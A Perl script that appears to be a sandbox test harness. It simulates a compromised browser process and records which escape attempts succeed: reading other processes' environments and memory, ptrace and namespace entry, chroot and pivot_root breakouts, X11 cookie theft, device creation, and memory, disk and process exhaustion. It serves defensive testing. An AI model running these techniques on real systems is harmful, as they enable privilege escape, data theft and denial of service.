# What a hostile program would try that has taken over a browser's process: it runs in that process's place, namespaces, uid and
# limits. Perl, since every Debian has it and it can make any system call; no module, for none may be reachable.
# Arguments: `name=value`, a name may come again. Standard output: a line for each thing got, as `attempt<TAB>hexadecimal text`.
# What begins with "did: " succeeded by itself; in anything else whoever runs this looks for words that must not be readable.
my %given;
for (@ARGV) { push @{$given{$1}}, $2 if /^(\w+)=(.*)$/s }
my @files = @{$given{file} || []};
my @pids = @{$given{pid} || []};
my $own = $given{own}[0];
my $nonce = $given{nonce}[0];
my $bound = $given{bound}[0] || 0;
$| = 1;

# System calls by their numbers: x86-64, then arm64.
my %numbers = (
  ptrace => [101, 117], setns => [308, 268], unshare => [272, 97], mount => [165, 40], umount => [166, 39], pivot => [155, 41],
  mknodat => [259, 33], keyctl => [250, 219], vmread => [310, 270], inotify_init => [294, 26], inotify_add => [254, 27],
  shmget => [29, 194], shmat => [30, 196], bpf => [321, 280], init_module => [175, 105],
  sethostname => [170, 161], pidfd_open => [434, 434], pidfd_getfd => [438, 438], prctl => [157, 167], swapon => [167, 224],
  memfd_create => [319, 279], prlimit => [302, 261],
);
my $arch = -e "/lib/ld-linux-aarch64.so.1" ? 1 : 0;
sub call { my ($name, @args) = @_; return syscall($numbers{$name}[$arch], @args) }

my $row = "";
sub got { my ($text) = @_; print "$row\t", unpack("H*", substr($text, 0, 200_000)), "\n" if defined $text && length $text }
sub did { got("did: $_[0]") }
sub slurp {
  my ($path) = @_;
  sysopen(my $file, $path, 2048) or return "";
  my $text = "";
  while (length($text) < 262_144 && sysread($file, my $part, 65_536)) { $text .= $part }
  return $text;
}
sub names { opendir(my $directory, $_[0]) or return (); return grep { $_ ne "." && $_ ne ".." } readdir($directory) }
sub processes { return grep { /^\d+$/ } names("/proc") }
sub write_to { my ($path, $text) = @_; sysopen(my $file, $path, 1) or return 0; return defined syswrite($file, $text) }

# Becomes root of a user namespace of its own, with the other namespaces of these flags: what any process may that Chromium's sandbox needs.
sub nest {
  my ($flags) = @_;
  my ($uid, $gid) = ($>, $) + 0);
  return 0 if call("unshare", 0x10000000 | $flags) != 0;
  write_to("/proc/self/setgroups", "deny");
  return write_to("/proc/self/uid_map", "0 $uid 1") && write_to("/proc/self/gid_map", "0 $gid 1");
}
sub mount_at { my ($source, $target, $type, $flags, $options) = @_; return call("mount", "$source\0", "$target\0", "$type\0", $flags, "$options\0") == 0 }
sub mounts { return map { [split / /] } split /\n/, slurp("/proc/self/mountinfo") }
# Goes on with $work in a process that outlives this program and has the first of its namespace for a parent, as any has that loses
# its own; found by its name.
sub stay {
  my ($work) = @_;
  pipe(my $named, my $name) or return;
  my $child = fork() // return;
  # Whoever has run this program can find the other one when this one has ended.
  if ($child) { close $name; sysread($named, my $none, 1); return }
  $0 = "hog-$nonce";
  close $name;
  open($_, "+<", "/dev/null") for *STDIN, *STDOUT, *STDERR;
  alarm($given{seconds}[0] || 30);
  $work->();
  exit 0;
}
# So many MiB, in several files: one alone may come to a limit of its own. Its name says when it has them all; it keeps what it has.
sub fill {
  my ($files) = @_;
  my $block = "x" x (1024 * 1024);
  my $written = 0;
  for (1 .. $bound) { last unless syswrite($files->[$_ % @$files], $block) == length $block; $written += 1 }
  $0 = "hog-$nonce-" . ($written == $bound ? "full" : "short");
  sleep 3600;
}
sub read_files { for (@files) { got(slurp($_)) } }
# Writes a mark at the path if it can, and says where: outside it can be seen whether that was the host.
sub mark_in { my ($directory) = @_; my $path = "$directory/mark-$nonce"; if (open(my $file, ">", $path)) { print $file "mark"; close $file; got("wrote: $path") } }

my %attempts = (
  read => \&read_files,
  read_through_processes => sub {
    for my $pid (processes()) { for my $way ("root", "cwd", "cwd/../../../../../..") { got(slurp("/proc/$pid/$way$_")) for @files } }
  },
  read_descriptors => sub {
    for my $pid (processes()) {
      for my $fd (names("/proc/$pid/fd")) {
        my $path = "/proc/$pid/fd/$fd";
        my $to = readlink($path) // next;
        got(slurp($path)) if -f $path;
        next unless -d $path;
        got(slurp("$path/$_")) for names($path);
        got(slurp("$path/../../../../../..$_")) for @files;
      }
    }
  },
  process_environments => sub { for my $pid (processes(), @pids) { got(slurp("/proc/$pid/environ")) } },
  process_command_lines => sub { for my $pid (processes(), @pids) { got(slurp("/proc/$pid/cmdline")) } },
  process_memory => sub {
    # A process keeps its environment at the end of its stack.
    for my $pid (processes(), @pids) {
      my ($to) = slurp("/proc/$pid/maps") =~ /^[0-9a-f]+-([0-9a-f]+) r.*\[stack\]$/m or next;
      sysopen(my $memory, "/proc/$pid/mem", 0) or next;
      sysseek($memory, hex($to) - 65_536, 0);
      my $text;
      got($text) if sysread($memory, $text, 65_536);
    }
  },
  process_trace => sub {
    # PTRACE_SEIZE stops nothing, and the end of this process undoes it.
    for (@pids) { did("traced process $_") if call("ptrace", 0x4206, $_ + 0, 0, 0) == 0 }
  },
  process_descriptors => sub {
    for my $pid (@pids) {
      my $handle = call("pidfd_open", $pid + 0, 0);
      next if $handle < 0;
      for my $fd (0 .. 30) { did("took descriptor $fd of process $pid") if call("pidfd_getfd", $handle, $fd, 0) >= 0 }
    }
  },
  process_signal => sub {
    # The first listens for the signal; others would end by it, so that only the right to send one is asked for.
    for (@pids) { did("signalled process $_") if kill($_ == $pids[0] ? "USR2" : 0, $_) }
  },
  process_stop => sub { for (@pids) { did("changed the priority of process $_") if setpriority(0, $_ + 0, 19) } },
  process_namespaces => sub {
    for my $pid (@pids) {
      for my $kind ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup") {
        sysopen(my $file, "/proc/$pid/ns/$kind", 0) or next;
        did("opened the $kind namespace of process $pid") if $kind eq "mnt" || $kind eq "user";
        did("entered the $kind namespace of process $pid") if call("setns", fileno($file), 0) == 0;
      }
    }
  },
  unix_sockets => sub {
    for my $path (@{$given{unix} || []}) {
      socket(my $socket, 1, 1, 0) or next;
      connect($socket, pack("S a*", 1, $path . "\0")) or next;
      syswrite($socket, "INFO server\r\n");
      got("answered: ") if sysread($socket, my $text, 4096);
      got($text);
    }
  },
  display => sub {
    my ($path, $authority) = ($given{display}[0], $given{authority}[0]);
    my $cookie = substr(slurp($authority) // "", -16);
    did("read the cookie of another's display") if length $cookie;
    my ($number) = $path =~ /X(\d+)$/;
    # A browser with a display of its own finds that one at the usual places.
    my $isOwn = grep { $_ eq $number } @{$given{own_display} || []};
    for my $name ($isOwn ? $path : ($path, "/tmp/.X11-unix/X$number", "\0/tmp/.X11-unix/X$number")) {
      socket(my $socket, 1, 1, 0) or next;
      connect($socket, pack($name =~ /^\0/ ? "S a*" : "S a108", 1, $name)) or next;
      did("reached the display of another");
      my $kind = "MIT-MAGIC-COOKIE-1";
      syswrite($socket, pack("a2 S5 a20 a16", "l\0", 11, 0, length $kind, length $cookie, 0, $kind, $cookie));
      my $answer = "";
      did("opened the display of another") if sysread($socket, $answer, 8) && ord($answer) == 1;
    }
  },
  abstract_sockets => sub {
    for my $name (@{$given{abstract} || []}) {
      socket(my $socket, 1, 1, 0) or next;
      connect($socket, pack("S a108", 1, "\0$name")) or next;
      did("connected to the abstract socket of another") unless sysread($socket, my $text, 4096);
      got($text);
    }
    got(slurp("/proc/net/unix"));
  },
  loopback_ports => sub {
    for my $port (@{$given{port} || []}) {
      socket(my $socket, 2, 1, 6) or next;
      connect($socket, pack("S n C4 x8", 2, $port, 127, 0, 0, 1)) or next;
      syswrite($socket, "GET /healthz HTTP/1.0\r\n\r\n");
      sysread($socket, my $text, 4096);
      did("reached port $port of the host's loopback");
      got($text);
    }
  },
  loopback_datagrams => sub {
    for my $port (@{$given{datagram} || []}) {
      for my $address ("127.0.0.1", "224.0.0.251", "255.255.255.255") {
        socket(my $socket, 2, 2, 17) or next;
        setsockopt($socket, 1, 6, pack("i", 1));
        send($socket, "ask", 0, pack("S n C4 x8", 2, $port, split(/\./, $address))) or next;
        my $ready = ""; vec($ready, fileno($socket), 1) = 1;
        next unless select($ready, undef, undef, 0.2);
        recv($socket, my $text, 2048, 0);
        got($text);
      }
    }
  },
  raw_sockets => sub {
    did("opened a raw socket") if socket(my $raw, 2, 3, 1);
    did("opened a packet socket") if socket(my $packet, 17, 3, 0x0300);
    did("read the kernel's log") if sysopen(my $log, "/dev/kmsg", 2048) && sysread($log, my $text, 8192);
  },
  host_name => sub { my $buffer = "\0" x 400; got("host: " . slurp("/proc/sys/kernel/hostname")); },
  set_host_name => sub { did("set the host's name") if call("sethostname", "remuda", 6) == 0 },
  mount_directly => sub {
    if (mount_at("none", $own, "tmpfs", 0, "size=4096")) { did("mounted a file system"); call("umount", "$own\0", 2) }
    for (mounts()) {
      my ($at, $options) = @{$_}[4, 5];
      next unless $options =~ /^ro/;
      did("made $at writable") if mount_at("none", $at, "none", 4128, "");
      did("took $at away") if call("umount", "$at\0", 2) == 0;
    }
  },
  nested_remount => sub {
    nest(0x20000) or return;
    for (mounts()) {
      my ($at, $options) = @{$_}[4, 5];
      next unless $options =~ /^ro/;
      for my $flags (4128, 32, 4096 | 32 | 2 | 4) { mount_at("none", $at, "none", $flags, "") and mark_in($at) }
    }
  },
  nested_unmount => sub {
    nest(0x20000) or return;
    for my $round (1 .. 3) { for (reverse mounts()) { my $at = $_->[4]; call("umount", "$at\0", 2) } }
    read_files();
    mark_in($_) for "/", "/usr", "/etc", "/tmp", "/dev/shm";
  },
  nested_mounts => sub {
    # Children of the new process namespace may mount a /proc of their own.
    nest(0x20000 | 0x20000000 | 0x08000000 | 0x02000000) or return;
    my $child = fork() // return;
    if ($child) { waitpid($child, 0); return }
    for my $type ("proc", "sysfs", "cgroup2", "devpts", "mqueue", "tmpfs", "ramfs", "overlay", "devtmpfs", "securityfs", "debugfs", "tracefs") {
      mount_at("none", "$own/tmp", $type, 0, $type eq "overlay" ? "lowerdir=/:/usr" : "") or next;
      if ($type eq "proc") { for my $pid (names("$own/tmp")) { got(slurp("$own/tmp/$pid/environ")) if $pid =~ /^\d+$/ } }
      if ($type eq "proc") { got(slurp("$own/tmp/1/root$_")) for @files }
      got(slurp("$own/tmp$_")) for @files;
      did("mounted $type, which is the host's") if $type =~ /^(devtmpfs|securityfs|debugfs|tracefs)$/;
      call("umount", "$own/tmp\0", 2);
    }
    exit 0;
  },
  nested_chroot => sub {
    nest(0x20000) or return;
    # Out of a root by a directory that lies outside of it: the oldest way.
    mkdir "$own/tmp/pit-$nonce";
    opendir(my $held, ".");
    chroot("$own/tmp/pit-$nonce") or return;
    chdir($held);
    chdir("..") for 1 .. 60;
    chroot(".");
    read_files();
    for my $pid (processes()) { got(slurp("/proc/$pid/root$_")) for @files }
  },
  nested_pivot => sub {
    nest(0x20000) or return;
    mount_at("/", "$own/tmp", "none", 4096 | 16384, "") or return;
    chdir("$own/tmp") && call("pivot", ".\0", ".\0") == 0 or return;
    call("umount", ".\0", 2);
    chdir("/");
    read_files();
  },
  devices => sub {
    my %usual = map { $_ => 1 } qw(null zero full random urandom tty ptmx pts shm stdin stdout stderr fd core console mqueue);
    for my $name (names("/dev")) { next if $usual{$name} || !(-c "/dev/$name" || -b _); sysopen(my $file, "/dev/$name", 2048) and did("opened /dev/$name") }
  },
  make_device => sub {
    # Character device 1:11 is the kernel's log, block device 8:0 the first disk.
    for my $kind ([0020666, 1 * 256 + 11], [0060666, 8 * 256]) {
      my $path = "$own/tmp/device-$nonce";
      call("mknodat", -100, "$path\0", $kind->[0], $kind->[1]) == 0 and did("made a device");
      unlink $path;
    }
  },
  host_settings => sub {
    for my $name ("kernel/core_pattern", "kernel/hostname", "kernel/modprobe", "net/ipv4/ip_forward", "vm/overcommit_memory", "kernel/panic") {
      sysopen(my $file, "/proc/sys/$name", 1) and did("opened /proc/sys/$name to write");
    }
    sysopen(my $file, $_, 1) and did("opened $_ to write") for "/proc/sysrq-trigger", "/proc/kcore", "/sys/power/state";
  },
  kernel_calls => sub {
    # The arguments make each fail even where the right is there: then not with EPERM (1) or ENOSYS (38), but for what they say.
    my %tried = (init_module => [0, 0, "\0"], swapon => ["/nonexistent\0", 0]);
    for my $name (sort keys %tried) {
      call($name, @{$tried{$name}});
      did("may call $name") if $! != 1 && $! != 38;
    }
  },
  keys => sub {
    for my $ring (-1, -2, -3, -4, -5) {
      my $key = call("keyctl", 10, $ring, "user\0", "$given{key}[0]\0", 0);
      next if $key <= 0;
      my $buffer = "\0" x 256;
      # The buffer itself is written to, so no copy of it may be given.
      my $length = syscall($numbers{keyctl}[$arch], 11, $key, $buffer, 256);
      got(substr($buffer, 0, $length)) if $length > 0;
    }
    got(slurp("/proc/keys"));
  },
  shared_memory => sub {
    for my $key (@{$given{segment} || []}) {
      my $id = shmget($key, 0, 0) // next;
      my $text = "";
      shmread($id, $text, 0, 64) and got($text);
    }
    got(slurp("/proc/sysvipc/shm"));
  },
  watch_files => sub {
    my $watcher = call("inotify_init", 0);
    # A browser has an /etc and a /proc of its own.
    for (grep { !m{^/(etc|proc)/} } @files) { did("watches $_") if call("inotify_add", $watcher, "$_\0", 0x2) >= 0 }
  },
  write_everywhere => sub {
    my @left = ("/");
    my $count = 0;
    while (defined(my $directory = shift @left)) {
      last if ($count += 1) > 20_000;
      next if $directory =~ m{^/(proc|sys)\b};
      my @below = grep { !-l $_ && -d _ } map { $directory eq "/" ? "/$_" : "$directory/$_" } names($directory);
      push @left, @below;
      mark_in($directory) if -w $directory;
    }
  },
  see_everything => sub {
    my @left = ("/");
    my $count = 0;
    while (defined(my $directory = shift @left)) {
      last if ($count += 1) > 20_000;
      next if $directory =~ m{^/(proc|sys|usr)\b};
      my @names = names($directory);
      got(join(" ", map { "$directory/$_" } @names));
      push @left, grep { !-l $_ && -d _ } map { $directory eq "/" ? "/$_" : "$directory/$_" } @names;
    }
  },
  system_files => sub {
    got(slurp($_)) for "/proc/mounts", "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/self/attr/current", "/sys/class/dmi/id/product_uuid";
    got(join(" ", map { "sys: $_" } names("/sys/class"))) if -d "/sys/class";
  },
  cgroups => sub {
    my @left = ("/sys/fs/cgroup");
    my $count = 0;
    while (defined(my $directory = shift @left)) {
      last if ($count += 1) > 2000;
      for my $name ("cgroup.procs", "tasks", "memory.max", "memory.limit_in_bytes", "pids.max", "cgroup.kill", "cpu.max", "release_agent") {
        sysopen(my $file, "$directory/$name", 1) and did("opened $directory/$name to write");
      }
      push @left, grep { !-l $_ && -d _ } map { "$directory/$_" } names($directory);
    }
  },
  nested_cgroups => sub {
    nest(0x20000 | 0x02000000) or return;
    for my $kind (["cgroup2", ""], map { ["cgroup", $_] } "memory", "pids", "cpu", "devices", "freezer") {
      mount_at("none", "$own/tmp", $kind->[0], 0, $kind->[1]) or next;
      for my $directory ("$own/tmp", map { "$own/tmp/$_" } names("$own/tmp")) {
        for my $name ("cgroup.procs", "memory.max", "memory.limit_in_bytes", "pids.max", "release_agent") {
          sysopen(my $file, "$directory/$name", 1) and did("opened $name of its $kind->[0] $kind->[1] to write");
        }
      }
      call("umount", "$own/tmp\0", 2);
    }
  },
  set_user_ids => sub {
    my @left = ("/usr/bin", "/usr/sbin", "/usr/lib", "/bin", "/sbin");
    while (defined(my $directory = shift @left)) {
      for my $path (map { "$directory/$_" } names($directory)) {
        next if -l $path;
        push @left, $path if -d _ && $directory !~ m{/.*/.*/.*/.*/};
        next unless -f _ && -u _ && -x _;
        next unless open(my $status, "<", "/proc/self/status");
        did("found $path, which runs as its owner") if join("", <$status>) =~ /^NoNewPrivs:\t0/m;
      }
    }
  },
  own_limits => sub { got("limits: " . slurp("/proc/self/limits")); got("status: " . slurp("/proc/self/status")) },
  many_processes => sub {
    # A slow machine starts some hundred a second.
    alarm(90);
    my $count = 0;
    my @children;
    for (1 .. $bound) {
      my $child = fork();
      last unless defined $child;
      if ($child == 0) { sleep 100; exit 0 }
      push @children, $child;
      $count += 1;
    }
    kill("KILL", @children);
    did("has $count processes at once") if $count >= $bound;
  },
  many_files => sub {
    my $most = $given{most_files}[0];
    # RLIMIT_NOFILE, which any may raise to the hard limit, and root beyond; the second time as root of a nested namespace.
    for my $round (1 .. 2) {
      my $hard = slurp("/proc/self/limits") =~ /^Max open files +\d+ +(\d+)/m ? $1 : $most;
      for my $wanted ($hard, $most + 64) { call("prlimit", 0, 7, pack("QQ", $wanted, $wanted > $hard ? $wanted : $hard), 0) }
      my @held;
      for (1 .. $most) { open(my $file, "<", "/dev/null") or last; push @held, $file }
      did("has " . @held . " files open at once") if @held == $most;
      @held = ();
      nest(0) or last;
    }
  },
  plant_links => sub {
    my $count = 0;
    for my $file (@files) {
      $count += 1;
      symlink($file, "$given{into}[0]/held-$nonce-$count");
      link($file, "$given{into}[0]/held-$nonce-hard-$count");
    }
    symlink("/", "$given{into}[0]/held-$nonce-directory");
  },
  much_io => sub {
    # O_DSYNC: each write is on the disk when it returns. The same few MiB again and again, so that no limit to storage is met.
    my $path = "$given{into}[0]/io-$nonce";
    sysopen(my $file, $path, 1 | 64 | 010000, 0600) or return;
    my $block = "x" x (1024 * 1024);
    my $written = 0;
    for (1 .. $bound) {
      sysseek($file, 0, 0) if $written % 8 == 0;
      last unless syswrite($file, $block) == length $block;
      $written += 1;
    }
    close $file;
    unlink $path;
    did("wrote $written MiB to the disk, as fast as that goes") if $written >= $bound;
  },
  unmapped_memory => sub {
    stay(sub {
      my $fd = call("memfd_create", "held\0", 0);
      open(my $file, "+<&=", $fd) or return;
      fill([$file]);
    });
  },
  mounted_memory => sub {
    stay(sub {
      nest(0x20000) or return;
      mount_at("none", "$own/tmp", "tmpfs", 0, "size=90%") or return;
      my @files;
      for (1 .. 16) { open($files[@files], ">", "$own/tmp/fill-$_") }
      fill(\@files);
    });
  },
  unbounded_mount => sub {
    stay(sub {
      nest(0x20000) or return;
      mount_at("none", "$own/tmp", "ramfs", 0, "") or return;
      open(my $file, ">", "$own/tmp/fill");
      fill([$file]);
    });
  },
  unlinked_disk => sub {
    stay(sub {
      my $path = "$own/tmp/fill-$nonce";
      open(my $file, "+>", $path) or return;
      unlink $path;
      fill([$file]);
    });
  },
  much_disk => sub {
    my $path = "$given{into}[0]/fill-$nonce";
    open(my $file, ">", $path) or return;
    my $block = "x" x (1024 * 1024);
    my $written = 0;
    for (1 .. $bound) { last unless syswrite($file, $block) == length $block; $written += 1 }
    close $file;
    did("wrote $written MiB");
  },
);

for my $name (@{$given{attempt} || []}) {
  $row = $name;
  my $child = fork() // die "cannot fork";
  if ($child == 0) {
    alarm($given{seconds}[0] || 5);
    $attempts{$name} ? $attempts{$name}->() : got("there is no such attempt");
    exit 0;
  }
  waitpid($child, 0);
  # One whose time is over may have ended in the middle of a line.
  print "\n$name\tover\n";
}
